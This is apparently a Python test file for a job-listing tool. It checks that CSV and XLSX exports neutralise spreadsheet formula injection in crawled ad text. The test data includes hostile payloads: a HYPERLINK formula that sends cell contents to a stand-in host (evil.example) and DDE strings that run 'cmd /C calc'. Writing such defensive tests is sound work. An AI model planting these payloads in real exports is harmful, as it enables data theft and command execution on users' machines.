"""Formula injection (OWASP "CSV injection"): no ad text becomes a live formula in a spreadsheet.

A title or employer such as `=HYPERLINK(...)` or `=cmd|' /C calc'!A0` comes from a crawled page, so it
is the attacker's text. Every spreadsheet-bound output (the match CSV, `export --format csv`,
`hunt-export` CSV and XLSX) must hand it to the spreadsheet as text: a leading `'` in front of a cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, the rest of the text unchanged.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner, Result

from flows.cli import app
from pipeline.cells import FORMULA_STARTS, sheet_safe
from warehouse import db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for salary")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 tab-led",
    "\r=1+1 cr-led",
    "\uff1d1+1 fullwidth",
]
DESCRIPTION = "Backend developer Python PostgreSQL Kubernetes. Arbeidsspråket er engelsk."


def _invoke(*args: str) -> Result:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def warehouse(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "w.duckdb"
    monkeypatch.setenv("FJORDJOBS_DB", str(path))
    monkeypatch.chdir(tmp_path)
    with db.connection(path) as con:
        con.executemany(
            "INSERT INTO listings (listing_id, source, source_id, url, title, employer, description, status) "
            "VALUES (?, 'nav', ?, ?, ?, ?, ?, 'active')",
            [
                [f"nav:h{i}", f"h{i}", f"https://example.org/h{i}", text, text, DESCRIPTION]
                for i, text in enumerate(HOSTILE)
            ],
        )
    return path


def _assert_cells_safe(cells: list[str], where: str) -> None:
    for cell in cells:
        assert not (cell and cell[0] in FORMULA_STARTS), (where, cell)
    for text in HOSTILE:
        assert "'" + text in cells, (where, text)  # neutralised, and still readable


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_match_csv_neutralises_formulas(warehouse: Path, tmp_path: Path) -> None:
    cv = tmp_path / "cv.md"
    cv.write_text("Backend developer: Python, PostgreSQL, Kubernetes.", encoding="utf-8")
    _invoke("match", "--cv", str(cv), "--format", "csv", "--out", str(tmp_path / "m.csv"))
    _assert_cells_safe(_csv_cells(tmp_path / "m.csv"), "match csv")


def test_export_csv_neutralises_formulas(warehouse: Path, tmp_path: Path) -> None:
    _invoke("export", "--format", "csv", "--out", str(tmp_path / "exp"))
    _assert_cells_safe(_csv_cells(tmp_path / "exp" / "listings.csv"), "export csv")


def _track_everything() -> None:
    for i in range(len(HOSTILE)):
        _invoke("track", f"nav:h{i}", "--status", "applied", f"--note={HOSTILE[i]}")
        _invoke(
            "contacts",
            "add",
            f"--employer={HOSTILE[i]}",
            "--relation=close",
            f"--note={HOSTILE[i]}",
            "--",
            HOSTILE[i],
        )
    _invoke("track", "--open", "--employer", "=HYPERLINK(1)", "--status", "applied")


def test_hunt_export_csv_neutralises_formulas(warehouse: Path, tmp_path: Path) -> None:
    _track_everything()
    _invoke("hunt-export", "--out", str(tmp_path / "hunt"))
    cells = [c for f in sorted((tmp_path / "hunt").glob("*.csv")) for c in _csv_cells(f)]
    _assert_cells_safe(cells, "hunt-export csv")
    assert "'=HYPERLINK(1)" in cells


def test_hunt_export_xlsx_has_no_formula(warehouse: Path, tmp_path: Path) -> None:
    _track_everything()
    _invoke("hunt-export", "--out", str(tmp_path / "hunt.xlsx"))
    book = load_workbook(tmp_path / "hunt.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    _assert_cells_safe([c.value for c in cells if isinstance(c.value, str)], "hunt-export xlsx")


def test_sheet_safe_leaves_numbers_and_plain_text() -> None:
    assert sheet_safe(-5) == -5
    assert sheet_safe(None) is None
    assert sheet_safe("Backend developer") == "Backend developer"
    assert sheet_safe("") == ""
    assert sheet_safe("-") == "'-"
